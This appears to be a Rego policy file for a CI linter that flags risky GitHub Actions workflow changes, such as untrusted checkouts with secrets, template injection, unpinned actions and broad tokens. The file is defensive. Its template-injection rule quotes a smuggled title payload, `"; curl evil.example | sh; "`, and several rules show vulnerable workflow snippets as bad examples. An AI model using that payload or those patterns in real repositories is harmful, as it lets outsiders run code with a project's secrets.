# METADATA
# title: What a change does to GitHub Actions and Dependabot
# description: >-
#   A workflow runs with the repository's secrets, so a line in it can be worth more than the code that it builds. These rules judge changed workflows,
#   composite actions and Dependabot's configuration as a whole, at both ends of the diff, and report only what the change brings in or makes worse. The
#   names of the checks are those of zizmor where it has the same one.
package lintel.workflows

# METADATA
# title: Code of strangers runs with secrets
# description: >-
#   The workflow is started by pull_request_target or workflow_run, so it has the repository's secrets and a token that may write. A job of it checks out
#   the head of the pull request and then runs something of it: a build, a script, the install hooks of a package. It does not count where the pull
#   request was merged, where the job has an environment, and where only a label starts the workflow and the commit is named by its id.
# custom:
#   id: workflows/untrusted-checkout
#   security: true
#   passes: No workflow runs code of strangers with secrets
#   severity: error
#   mode: enforce
#   measured: {right: 6, labelled: 6, all: true, fired: 6, changes: 400843, date: "2026-11-29",
#     why: "Of the first nine findings one was right, and the rule was corrected five times by them. These are of whole histories. Whoever merges one hands over secrets."}
#   remedy: >-
#     Run that code in a workflow that pull_request starts, without secrets, and hand over its result as an artifact that is only read.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Never. Where it is meant, the job belongs behind an environment that somebody approves.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['A workflow of pull_request_target that only sets a label.']
#     bad: ['pull_request_target, a checkout of github.event.pull_request.head.sha, then npm ci.']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "untrusted-checkout"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Code of strangers stands beside secrets
# description: >-
#   As workflows/untrusted-checkout, but no later step is seen to run the code, or somebody approves the run first. A step that runs it is added easily,
#   and the next person may not see where the code is from.
# custom:
#   id: workflows/head-checkout
#   security: true
#   passes: No workflow with secrets takes in code of strangers
#   severity: warning
#   mode: warn
#   measured: {right: 15, labelled: 18, all: true, fired: 18, changes: 400843, date: "2026-11-29"}
#   remedy: >-
#     Only read that code here. Write persist-credentials: false, and name the folder so that everybody sees what is in it.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Workflows of this kind are reviewed by somebody who knows them.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['A checkout without ref in a workflow of pull_request_target: it takes the base.']
#     bad: ['A checkout of github.event.pull_request.head.sha whose diff is measured, the token kept beside it.']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "head-checkout"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: A trigger that gives strangers a workflow with secrets
# description: >-
#   The change adds pull_request_target or workflow_run to a workflow. Strangers start it, and it runs with the repository's secrets and a token that may
#   write.
# custom:
#   id: workflows/dangerous-trigger
#   security: true
#   passes: No new trigger gives strangers a workflow with secrets
#   severity: notice
#   mode: shadow
#   measured: {right: 15, labelled: 37, fired: 75, changes: 116439, date: "2026-11-29"}
#   remedy: >-
#     Use pull_request where no secret is needed. If one is, keep code of the pull request out of the workflow.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Triggers of this kind are common here and reviewed otherwise.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['A workflow of pull_request.']
#     bad: ['on: pull_request_target']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "dangerous-trigger"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Text of strangers becomes code
# description: >-
#   An expression writes text that others choose (a title, a branch name, a comment) into a script before the shell reads it. A title such as `"; curl
#   evil.example | sh; "` is then a command.
# custom:
#   id: workflows/template-injection
#   security: true
#   passes: No text of strangers is written into a script
#   severity: error
#   mode: warn
#   measured: {right: 29, labelled: 32, fired: 10, changes: 397897, date: "2026-11-29"}
#   remedy: >-
#     Hand the text over by env:, and use the variable in quotes.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Nobody outside of the team can open issues or pull requests.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['env: TITLE: ${{ github.event.issue.title }} with echo "$TITLE"']
#     bad: ['run: echo ${{ github.event.issue.title }}']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "template-injection"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Action without a pin
# description: >-
#   An action is named by a tag or a branch. Its owner, or whoever takes over the account, can move that name to other code, which then runs with the
#   job's token and secrets. An action of the repository's own owner and those of workflows.trusted need no pin.
# custom:
#   id: workflows/unpinned-action
#   security: true
#   passes: Every new action is pinned to a commit
#   severity: warning
#   mode: shadow
#   measured: {right: 164, labelled: 373, fired: 431, changes: 116439, date: "2026-11-28",
#     why: "Right is an action that the project pins today, of those that it still uses."}
#   remedy: >-
#     Write the full commit id, and the version as a comment behind it; Dependabot and Renovate keep both up to date.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Another tool pins actions.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: [workflows.trusted]
#   examples:
#     good: ['uses: acme/deploy@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v3']
#     bad: ['uses: acme/deploy@main']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "unpinned-uses"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Image without a digest
# description: >-
#   A container of a job or of a step is named by a tag, whose content can change between two runs.
# custom:
#   id: workflows/unpinned-image
#   security: true
#   passes: Every new image has a digest
#   severity: notice
#   mode: shadow
#   measured: {right: 7, labelled: 34, fired: 50, changes: 116439, date: "2026-11-28"}
#   remedy: >-
#     Write name@sha256:digest.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Images by tag are common here.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['image: postgres:17@sha256:1d5d...']
#     bad: ['image: postgres:latest']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "unpinned-images"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Owner that looks like another
# description: >-
#   The owner of an action differs from a well-known one by one character. Names like this are registered to be mistyped.
# custom:
#   id: workflows/lookalike-action
#   security: true
#   passes: No action's owner looks like another
#   severity: error
#   mode: warn
#   measured: {right: 0, labelled: 0, fired: 0, changes: 116439, date: "2026-11-28"}
#   remedy: >-
#     Correct the name, or look at who owns it before it runs.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Never.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['uses: actions/checkout@v5']
#     bad: ['uses: action/checkout@v5']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "lookalike-action"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Token that may do more than it must
# description: >-
#   The workflow's token may write everything, may write in several jobs that do not all need it, or has no permissions named, so that the repository's
#   default holds.
# custom:
#   id: workflows/excessive-permissions
#   security: true
#   passes: No new token may do more than it must
#   severity: warning
#   mode: shadow
#   measured: {right: 107, labelled: 219, fired: 246, changes: 116439, date: "2026-11-28",
#     why: "Right is a workflow that names fewer permissions today, of those that still exist."}
#   remedy: >-
#     Write permissions: contents: read for the workflow, and more for the one job that needs it.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     The organisation's default is read-only, and jobs are reviewed otherwise.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['permissions: { contents: read }, and pages: write for the job that deploys.']
#     bad: ['permissions: write-all']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "excessive-permissions"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Every secret for somebody else's workflow
# description: >-
#   A reusable workflow of another owner is called with secrets: inherit, which hands over every secret of the repository and its organisation.
# custom:
#   id: workflows/inherited-secrets
#   security: true
#   passes: No workflow of another owner gets every secret
#   severity: warning
#   mode: shadow
#   measured: {right: 0, labelled: 6, all: true, fired: 6, changes: 400843, date: "2026-11-29",
#     why: "A clone does not know its owner, and all were of the same owner; on a forge it is silent there."}
#   remedy: >-
#     Name the secrets that it needs.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Never.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['secrets: { token: "${{ secrets.DEPLOY }}" }']
#     bad: ['uses: other/ci/.github/workflows/release.yml@v1 with secrets: inherit']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "secrets-inherit"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Every secret as one text
# description: >-
#   toJSON(secrets) hands every secret to a step, needed or not. A value that JSON has to escape is no longer masked in logs.
# custom:
#   id: workflows/all-secrets
#   security: true
#   passes: No step gets every secret
#   severity: error
#   mode: warn
#   measured: {right: 0, labelled: 0, fired: 0, changes: 116439, date: "2026-11-28"}
#   remedy: >-
#     Name each secret that is needed.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Never.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['env: TOKEN: ${{ secrets.TOKEN }}']
#     bad: ['env: ALL: ${{ toJSON(secrets) }}']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "all-secrets"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Password in a workflow
# description: >-
#   The credentials of a container, or of a registry of Dependabot's, are written into the file in place of a secret.
# custom:
#   id: workflows/hard-coded-credentials
#   security: true
#   passes: No password stands in a workflow
#   severity: error
#   mode: warn
#   measured: {right: 0, labelled: 0, fired: 0, changes: 116439, date: "2026-11-28"}
#   remedy: >-
#     Store it as a secret, and replace the one that is public now.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Never.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['password: ${{ secrets.REGISTRY }}']
#     bad: ['password: hunter2 under container.credentials']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "hard-coded-credentials"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Artifact of strangers that is run
# description: >-
#   A workflow that workflow_run starts takes an artifact of the run before it into its work folder, and then runs something from there. A pull request of a
#   stranger decides what is in that artifact, and this job has the repository's secrets and a token that may write.
# custom:
#   id: workflows/artifact-poisoning
#   security: true
#   passes: No artifact of strangers is run
#   severity: error
#   mode: shadow
#   measured: {right: 1, labelled: 2, all: true, fired: 2, changes: 400843, date: "2026-11-29"}
#   remedy: >-
#     Take the artifact into a folder outside of the work folder, only read it, and run nothing of it.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Never.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['download-artifact with a run-id and a path in runner.temp; a script reads the number in it.']
#     bad: ['download-artifact with a run-id; then make.']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "artifact-poisoning"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Token inside of an artifact
# description: >-
#   actions/checkout leaves the job's token in .git, and the job uploads the folder with .git in it. Everybody who may read the repository can fetch the
#   token while the job runs.
# custom:
#   id: workflows/kept-credentials
#   security: true
#   passes: No artifact has the job's token in it
#   severity: warning
#   mode: warn
#   measured: {right: 0, labelled: 0, fired: 0, changes: 116439, date: "2026-11-28"}
#   remedy: >-
#     Write persist-credentials: false, and upload only what is needed.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Never.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['upload-artifact with path: dist']
#     bad: ['upload-artifact@v3 with path: .']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "kept-credentials"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Text of strangers in the environment of later steps
# description: >-
#   A workflow that strangers start writes a variable's text to GITHUB_ENV or GITHUB_PATH. A line break in it sets other variables, which change what
#   later steps run.
# custom:
#   id: workflows/environment-write
#   security: true
#   passes: No workflow of strangers writes the environment
#   severity: warning
#   mode: shadow
#   measured: {right: 0, labelled: 0, fired: 0, changes: 58772, date: "2026-11-30",
#     why: "Its seven findings of before were values that GitHub itself sets, and days; it finds them no more."}
#   remedy: >-
#     Write to GITHUB_OUTPUT, and hand the value over by env: where it is needed.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     The texts that are written are known to be harmless.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['echo "number=$NUMBER" >> "$GITHUB_OUTPUT"']
#     bad: ['echo "TITLE=$TITLE" >> "$GITHUB_ENV" in a workflow of pull_request_target']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "environment-write"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Condition that a stranger can fulfil
# description: >-
#   A condition takes github.actor for the author. It is whoever acted last, and a bot acts on pull requests of strangers as well.
# custom:
#   id: workflows/spoofable-condition
#   security: true
#   passes: No condition takes the actor for the author
#   severity: warning
#   mode: warn
#   measured: {right: 8, labelled: 9, all: true, fired: 9, changes: 400843, date: "2026-11-29"}
#   remedy: >-
#     Compare github.event.pull_request.user.login.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Never.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['if: github.event.pull_request.user.login == ''dependabot[bot]''']
#     bad: ['if: github.actor == ''dependabot[bot]'' before an automatic merge']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "spoofable-condition"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: List that is searched as a text
# description: >-
#   contains() with a text looks for a part of it, so a part of one of the names passes, too.
# custom:
#   id: workflows/unsound-contains
#   security: true
#   passes: No list of names is searched as a text
#   severity: warning
#   mode: warn
#   measured: {right: 0, labelled: 0, fired: 0, changes: 116439, date: "2026-11-28"}
#   remedy: >-
#     Use contains(fromJSON('["a", "b"]'), name).
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Never.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['contains(fromJSON(''["refs/heads/main"]''), github.ref)']
#     bad: ['contains(''refs/heads/main refs/heads/stable'', github.ref)']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "unsound-contains"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Strangers on a machine of your own
# description: >-
#   In a public repository a job of pull_request runs on a self-hosted machine. What one stranger leaves there meets the next job.
# custom:
#   id: workflows/self-hosted
#   security: true
#   passes: No pull request of strangers runs on a machine of your own
#   severity: warning
#   mode: warn
#   measured: {right: 3, labelled: 3, all: true, fired: 3, changes: 400843, date: "2026-11-29"}
#   remedy: >-
#     Use a runner of GitHub, or one that is thrown away after each job and waits for approval.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Machines are thrown away after each job.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['runs-on: ubuntu-latest']
#     bad: ['runs-on: self-hosted under on: pull_request']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "self-hosted"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Output that sets variables
# description: >-
#   ACTIONS_ALLOW_UNSECURE_COMMANDS brings back commands by which whatever a step prints can set variables and paths.
# custom:
#   id: workflows/insecure-commands
#   security: true
#   passes: No step's output sets variables
#   severity: error
#   mode: warn
#   measured: {right: 1, labelled: 1, all: true, fired: 1, changes: 119385, date: "2026-11-29"}
#   remedy: >-
#     Remove it, and write to GITHUB_ENV or GITHUB_OUTPUT.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Never.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['echo "name=value" >> "$GITHUB_OUTPUT"']
#     bad: ['env: ACTIONS_ALLOW_UNSECURE_COMMANDS: true']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "insecure-commands"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Cache in what is published
# description: >-
#   A job that publishes restores a cache. A job of another branch may have written it, and what it wrote is shipped.
# custom:
#   id: workflows/cache-in-release
#   security: true
#   passes: Nothing is published from a cache
#   severity: notice
#   mode: shadow
#   measured: {right: 1, labelled: 4, all: true, fired: 4, changes: 33771, date: "2026-11-29",
#     why: "Most caches hold what the same run made. Before, 1 of 7 were right."}
#   remedy: >-
#     Build what is published without a cache.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     Caches are written by trusted branches alone.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['A release job without a cache.']
#     bad: ['actions/cache before goreleaser']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "cache-in-release"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Workflow that GitHub refuses or reads otherwise
# description: >-
#   GitHub would not start the workflow, or part of it does not mean what it looks like: YAML that cannot be read, an expression that cannot be parsed, a
#   mistyped key, a job that needs one that is not there, a condition that is always true. actionlint finds it; what may only be newer than its tables is
#   left out.
# custom:
#   id: workflows/syntax
#   passes: Every changed workflow can be read
#   severity: warning
#   mode: warn
#   measured: {right: 61, labelled: 63, fired: 51, changes: 116439, date: "2026-11-29"}
#   remedy: >-
#     Correct the line; the message names what was expected.
#   reads: [files, settings]
#   merge_queue: carry
#   off: >-
#     actionlint runs in CI.
#   missing: A file that could not be judged is named by workflows/unread; while the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['if: github.ref == ''refs/heads/main''']
#     bad: ['needs: biuld, where the job is called build']
deny contains finding if {
	some item in input.workflows.findings
	item.audit == "syntax"
	finding := of_item(rego.metadata.rule().custom.id, item)
}

# METADATA
# title: Workflow that could not be judged
# description: >-
#   A changed workflow or action could not be read as a whole, or is written in a way that its reader does not follow. Nothing was found in it because
#   nothing was looked at. In mode enforce it keeps such a file from being merged.
# custom:
#   id: workflows/unread
#   passes: Every changed workflow was judged
#   severity: error
#   mode: warn
#   measured: {right: 0, labelled: 0, fired: 18, changes: 116439, date: "2026-11-28",
#     why: "It says what was not judged, all of it workflows with anchors of YAML, which are judged since; silence would be taken for a pass."}
#   remedy: Look at the file as a reviewer; no rule has.
#   reads: [files, settings]
#   merge_queue: carry
#   off: Workflows of this kind are reviewed by somebody who knows them.
#   missing: That is what it is about.
#   stands_in: true
#   options: []
#   examples:
#     good: ['A changed workflow of 200 lines.']
#     bad: ['A changed workflow whose aliases stand for a million values.']
deny contains finding if {
	some file in input.workflows.files
	not file.judged
	file.kind != "other"
	file.why != ""
	finding := {
		"rule": rego.metadata.rule().custom.id,
		"path": file.path,
		"line": 0,
		"end_line": 0,
		"message": sprintf("This file was not judged: %s.", [file.why]),
		"remedy": "",
		"subject": "",
	}
}

# METADATA
# title: Another CI's file
# description: >-
#   The change touches the configuration of another CI than GitHub Actions, such as GitLab's. These rules do not know its language, so nobody but
#   reviewers has looked.
# custom:
#   id: workflows/other-ci
#   passes: No configuration of another CI is touched
#   severity: notice
#   mode: shadow
#   measured: {right: 0, labelled: 34, fired: 97, changes: 116439, date: "2026-11-28"}
#   remedy: Look at the file as a reviewer; no rule has.
#   reads: [files, settings]
#   merge_queue: carry
#   off: Files of another CI change often here.
#   missing: While the list of files is incomplete it abstains.
#   options: []
#   examples:
#     good: ['A changed workflow of GitHub Actions.']
#     bad: ['A changed .gitlab-ci.yml.']
deny contains finding if {
	some file in input.workflows.files
	file.kind == "other"
	finding := {
		"rule": rego.metadata.rule().custom.id,
		"path": file.path,
		"line": 0,
		"end_line": 0,
		"message": "This file rules a CI whose language no rule of Lintel knows, so nothing in it was judged.",
		"remedy": "",
		"subject": "",
	}
}

# METADATA
# custom:
#   id: workflows/unread
deny contains finding if {
	input.workflows.more + input.workflows.files_more > 0
	finding := {
		"rule": rego.metadata.rule().custom.id,
		"path": "",
		"line": 0,
		"end_line": 0,
		"message": sprintf("%d findings and %d files more are not listed here.", [input.workflows.more, input.workflows.files_more]),
		"remedy": "Solve those that are listed; the next look lists the rest.",
		"subject": "more",
	}
}

abstain contains {
	"rule": rule,
	"reason": "The list of changed files is incomplete, so workflows may be missing from it.",
} if {
	not input.files.complete
	some rule in [
		"workflows/untrusted-checkout",
		"workflows/head-checkout",
		"workflows/artifact-poisoning",
		"workflows/dangerous-trigger",
		"workflows/template-injection",
		"workflows/unpinned-action",
		"workflows/unpinned-image",
		"workflows/lookalike-action",
		"workflows/excessive-permissions",
		"workflows/inherited-secrets",
		"workflows/all-secrets",
		"workflows/hard-coded-credentials",
		"workflows/kept-credentials",
		"workflows/environment-write",
		"workflows/spoofable-condition",
		"workflows/unsound-contains",
		"workflows/self-hosted",
		"workflows/insecure-commands",
		"workflows/cache-in-release",
		"workflows/widened-permission",
		"workflows/unredacted-secret",
		"workflows/indexed-secrets",
		"workflows/obfuscation",
		"workflows/unsound-ternary",
		"workflows/trusted-publishing",
		"workflows/version-comment",
		"workflows/archived-action",
		"workflows/unpinned-tool",
		"workflows/app-token",
		"workflows/loose-package",
		"workflows/dependabot-cooldown",
		"workflows/dependabot-execution",
		"workflows/syntax",
		"workflows/other-ci",
	]
}
